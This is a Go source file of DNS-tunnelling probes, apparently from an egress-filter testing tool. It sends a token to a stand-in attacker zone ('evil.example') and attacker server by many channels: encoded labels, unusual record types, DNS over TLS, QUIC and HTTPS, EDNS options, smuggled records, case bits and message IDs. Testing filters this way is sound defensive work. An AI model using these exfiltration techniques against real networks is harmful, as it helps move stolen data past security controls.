package probes

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"

	"github.com/miekg/dns"
)

const dnsCategory = "DNS tunnelling"

// question is a way out in a question of one type: the token is in the name, the answer
// is the attacker's.
func question(network, server, name string, qtype uint16) func(Aim) error {
	return func(a Aim) error {
		m := new(dns.Msg).SetQuestion(strings.ReplaceAll(name, "TOKEN", a.Token), qtype)
		return answered(ask(network, server, m))
	}
}

// answered reports whether an answer came from the internet: it has a record that only the attacker's
// server has.
func answered(r *dns.Msg, err error) error {
	if err != nil {
		return err
	}
	for _, rr := range append(r.Answer, r.Extra...) {
		if strings.Contains(rr.String(), Attacker) || strings.Contains(rr.String(), "command") || strings.Contains(rr.String(), CDN) {
			return nil
		}
	}
	return fmt.Errorf("%s, and nothing of the attacker's", dns.RcodeToString[r.Rcode])
}

func dnsProbe(name, what string, try func(Aim) error) Probe {
	return Probe{Name: "dns-" + name, Category: dnsCategory, What: what, Try: try}
}

func dnsProbes() []Probe {
	ps := []Probe{
		dnsProbe("hex", "hex in a label", func(a Aim) error {
			return question("udp", anyServer, hex.EncodeToString([]byte(a.Token))+".evil.example.", dns.TypeA)(a)
		}),
		dnsProbe("long-labels", "a long name, with labels of 63", question("udp", anyServer, "TOKEN"+strings.Repeat("x", 31)+"."+strings.Repeat(strings.Repeat("y", 63)+".", 2)+"evil.example.", dns.TypeA)),
		dnsProbe("many-labels", "the token split over labels", func(a Aim) error {
			h := len(a.Token) / 2
			return question("udp", anyServer, a.Token[:h]+"."+a.Token[h:]+".evil.example.", dns.TypeTXT)(a)
		}),
		dnsProbe("below-a-rule", "a name below one that is allowed", question("udp", anyServer, "TOKEN.good.example.", dns.TypeA)),
		dnsProbe("below-a-rule-txt", "text below a name that is allowed", question("udp", anyServer, "TOKEN.good.example.", dns.TypeTXT)),
		dnsProbe("beside-a-wildcard", "a name that ends like a wildcard's", question("udp", anyServer, "TOKENwild.example.", dns.TypeA)),
		dnsProbe("tcp", "text over TCP", question("tcp", anyServer, "TOKEN.evil.example.", dns.TypeTXT)),
		dnsProbe("pipelined", "100 questions on one TCP connection, sent at once", pipelined),
		dnsProbe("resolver", "a question to the host's own name server", question("udp", Resolver+":53", "TOKEN.evil.example.", dns.TypeTXT)),
		dnsProbe("attackers-server", "a question to the attacker's own server", question("udp", Attacker+":53", "TOKEN.evil.example.", dns.TypeTXT)),
		dnsProbe("ipv6-server", "a question to a server with an IPv6 address", question("udp", join(Resolver6, 53), "TOKEN.evil.example.", dns.TypeTXT)),
		dnsProbe("ipv6-server-tcp", "the same over TCP", question("tcp", join(Resolver6, 53), "TOKEN.evil.example.", dns.TypeTXT)),
		dnsProbe("dot", "DNS over TLS", question("tcp-tls", Resolver+":853", "TOKEN.evil.example.", dns.TypeTXT)),
		dnsProbe("dot-ipv6", "DNS over TLS by IPv6", tell("tcp", join(Attacker6, 853))),
		dnsProbe("doq", "DNS over QUIC", tell("udp", Resolver+":853")),
		dnsProbe("doh-address", "DNS over HTTPS to an address", func(a Aim) error {
			c, err := dial("tcp", Resolver+":443")
			if err != nil {
				return err
			}
			return https(c, a, "dns.example", "dns.example")
		}),
		dnsProbe("doh-name", "DNS over HTTPS to a name", handshake("dns.example", 443, "dns.example", "dns.example")),
		dnsProbe("doh-behind-the-cdn", "DNS over HTTPS at the address of an allowed name", handshake("good.example", 443, "dns.example", "dns.example")),
		dnsProbe("port-5353", "a server on another port", tell("udp", Attacker+":5353")),
		dnsProbe("port-5353-tcp", "the same over TCP", tell("tcp", Attacker+":5353")),
	}
	for _, t := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeCNAME, dns.TypeMX, dns.TypeSRV, dns.TypeHTTPS, dns.TypeSVCB, dns.TypeNS, dns.TypeSOA, dns.TypePTR, dns.TypeCAA, dns.TypeNAPTR, dns.TypeANY, 65399} {
		name := strings.ToLower(dns.Type(t).String())
		ps = append(ps, dnsProbe("type-"+name, "the token in a question of type "+dns.Type(t).String(), question("udp", anyServer, "TOKEN.evil.example.", t)))
	}
	return ps
}

func pipelined(a Aim) error {
	c, err := dial("tcp", anyServer)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	var all []byte
	for i := range 100 {
		b, err := new(dns.Msg).SetQuestion(fmt.Sprintf("%s.%d.evil.example.", a.Token, i), dns.TypeTXT).Pack()
		if err != nil {
			return err
		}
		all = append(all, byte(len(b)>>8), byte(len(b)))
		all = append(all, b...)
	}
	if _, err := c.Write(all); err != nil {
		return err
	}
	conn := &dns.Conn{Conn: c}
	for range 100 {
		r, err := conn.ReadMsg()
		if err != nil {
			return err
		}
		if answered(r, nil) == nil {
			return nil
		}
	}
	return errors.New("100 answers, and none is the attacker's")
}

// packet sends bytes as they are to a name server and reads one answer.
func packet(network string, b []byte) (*dns.Msg, error) {
	c, err := dial(network, anyServer)
	if err != nil {
		return nil, err
	}
	defer func() { _ = c.Close() }()
	if _, err := c.Write(b); err != nil {
		return nil, err
	}
	buf := make([]byte, 65536)
	n, err := c.Read(buf)
	if err != nil {
		return nil, err
	}
	r := new(dns.Msg)
	return r, r.Unpack(buf[:n])
}

var errNoToken = errors.New("nothing came back that says who answered")

// written is a question for an allowed name with something added to it. That it was answered proves nothing
// inside: the far end does. So it only reports whether the packet was what it should be.
func written(change func(m *dns.Msg, token string), after func(b []byte, token string) []byte) func(Aim) error {
	return func(a Aim) error {
		m := new(dns.Msg).SetQuestion("good.example.", dns.TypeA)
		if change != nil {
			change(m, a.Token)
		}
		b, err := m.Pack()
		if err != nil {
			return err
		}
		if after != nil {
			b = after(b, a.Token)
		}
		r, err := packet("udp", b)
		if err != nil {
			return err
		}
		return fromOutside(r)
	}
}

// fromOutside reports whether an answer is the internet's own: a synthetic address is the gate's.
func fromOutside(r *dns.Msg) error {
	for _, rr := range r.Answer {
		if a, ok := rr.(*dns.A); ok && a.A.Equal(net.ParseIP(CDN)) {
			return nil
		}
	}
	return errNoToken
}

// option adds an EDNS option to a question for an allowed name.
func option(make func(token string) dns.EDNS0) func(Aim) error {
	return written(func(m *dns.Msg, token string) {
		o := &dns.OPT{Hdr: dns.RR_Header{Name: ".", Rrtype: dns.TypeOPT}}
		o.SetUDPSize(1232)
		o.Option = append(o.Option, make(token))
		m.Extra = append(m.Extra, o)
	}, nil)
}

// record adds a record to one of the sections after the question.
func record(section func(m *dns.Msg) *[]dns.RR) func(Aim) error {
	return written(func(m *dns.Msg, token string) {
		rr := &dns.TXT{Hdr: dns.RR_Header{Name: "evil.example.", Rrtype: dns.TypeTXT, Class: dns.ClassINET}, Txt: []string{token}}
		s := section(m)
		*s = append(*s, rr)
	}, nil)
}

func dnsOddProbes() []Probe {
	ps := []Probe{
		dnsProbe("edns-local", "an EDNS option of one's own on an allowed name", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_LOCAL{Code: 65001, Data: []byte(t)}
		})),
		dnsProbe("edns-cookie", "a DNS cookie", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_COOKIE{Code: dns.EDNS0COOKIE, Cookie: hex.EncodeToString([]byte(t))}
		})),
		dnsProbe("edns-padding", "padding that isn't empty", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_PADDING{Padding: []byte(t)}
		})),
		dnsProbe("edns-nsid", "a name server identifier", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_NSID{Code: dns.EDNS0NSID, Nsid: hex.EncodeToString([]byte(t))}
		})),
		dnsProbe("edns-subnet", "four bytes at a time in the client subnet", option(func(t string) dns.EDNS0 {
			return &dns.EDNS0_SUBNET{Code: dns.EDNS0SUBNET, Family: 2, SourceNetmask: 128, Address: net.IP(append([]byte(t), make([]byte, 16)...)[:16])}
		})),
		dnsProbe("additional", "a record after the question", record(func(m *dns.Msg) *[]dns.RR { return &m.Extra })),
		dnsProbe("authority", "a record in the authority section", record(func(m *dns.Msg) *[]dns.RR { return &m.Ns })),
		dnsProbe("answer-in-question", "an answer in a question", record(func(m *dns.Msg) *[]dns.RR { return &m.Answer })),
		dnsProbe("trailing", "bytes after the message", written(nil, func(b []byte, t string) []byte { return append(b, t...) })),
		dnsProbe("two-questions", "a second question beside an allowed one", written(func(m *dns.Msg, t string) {
			m.Question = append(m.Question, dns.Question{Name: t + ".evil.example.", Qtype: dns.TypeA, Qclass: dns.ClassINET})
		}, nil)),
		dnsProbe("chaos", "a question of class CH", func(a Aim) error {
			m := new(dns.Msg).SetQuestion(a.Token+".evil.example.", dns.TypeTXT)
			m.Question[0].Qclass = dns.ClassCHAOS
			return answered(ask("udp", anyServer, m))
		}),
		dnsProbe("axfr", "a zone transfer", question("tcp", anyServer, "TOKEN.evil.example.", dns.TypeAXFR)),
		dnsProbe("update", "a dynamic update", opcode(dns.OpcodeUpdate)),
		dnsProbe("notify", "a notification", opcode(dns.OpcodeNotify)),
		dnsProbe("nul-in-name", "a NUL before the attacker's zone", question("udp", anyServer, `good\000TOKEN.evil.example.`, dns.TypeA)),
		dnsProbe("dot-in-label", "a dot inside a label", question("udp", anyServer, `good\.example\.TOKEN.evil.example.`, dns.TypeA)),
		dnsProbe("eight-bit", "bytes that are no text in a label", question("udp", anyServer, `\200\201TOKEN.evil.example.`, dns.TypeTXT)),
		dnsProbe("underscore", "a service's name", question("udp", anyServer, "_TOKEN._tcp.evil.example.", dns.TypeSRV)),
		dnsProbe("reverse", "the token in an address asked backwards", func(a Aim) error {
			r, err := dns.ReverseAddr(netip.AddrFrom16([16]byte(append([]byte(a.Token), make([]byte, 16)...)[:16])).String())
			if err != nil {
				return err
			}
			return answered(ask("udp", anyServer, new(dns.Msg).SetQuestion(r, dns.TypePTR)))
		}),
		dnsProbe("mdns", "multicast DNS", throw("udp", "224.0.0.251:5353")),
		dnsProbe("llmnr", "link-local name resolution", throw("udp", "224.0.0.252:5355")),
	}
	for i, p := range ps {
		ps[i].Tokenless = p.Name == "dns-reverse" || p.Name == "dns-edns-subnet" // nibbles backwards, and the first 16 bytes
	}
	return append(ps,
		Probe{
			Name: "dns-case", Category: dnsCategory, What: "a bit in the case of each letter of an allowed name", Tokenless: true,
			Try: func(a Aim) error {
				m := new(dns.Msg).SetQuestion("gOoD.eXaMpLe.", dns.TypeA)
				r, err := ask("udp", anyServer, m)
				if err != nil {
					return err
				}
				return fromOutside(r)
			},
		},
		Probe{
			Name: "dns-message-id", Category: dnsCategory, What: "two bytes in the number of a question", Tokenless: true,
			Try: func(a Aim) error {
				for i := 0; i+1 < len(a.Token); i += 2 {
					m := new(dns.Msg).SetQuestion("good.example.", dns.TypeA)
					m.Id = binary.BigEndian.Uint16([]byte(a.Token[i:]))
					r, err := ask("udp", anyServer, m)
					if err == nil {
						err = fromOutside(r)
					}
					if err != nil {
						return err
					}
				}
				return nil
			},
		},
		Probe{
			Name: "dns-answer", Category: dnsCategory, What: "an answer that nobody asked for, to the attacker's server",
			Try: func(a Aim) error {
				m := new(dns.Msg).SetQuestion(a.Token+".evil.example.", dns.TypeTXT)
				m.Response = true
				b, err := m.Pack()
				if err != nil {
					return err
				}
				c, err := dial("udp", Attacker+":5300")
				if err != nil {
					return err
				}
				_, err = speak(c, bytes.Clone(b))
				return err
			},
		},
	)
}

// opcode is a message that is no query, about the attacker's zone.
func opcode(op int) func(Aim) error {
	return func(a Aim) error {
		m := new(dns.Msg).SetQuestion(a.Token+".evil.example.", dns.TypeSOA)
		m.Opcode = op
		r, err := ask("udp", anyServer, m)
		if err != nil {
			return err
		}
		if r.Rcode != dns.RcodeSuccess {
			return fmt.Errorf("%s", dns.RcodeToString[r.Rcode])
		}
		return nil
	}
}
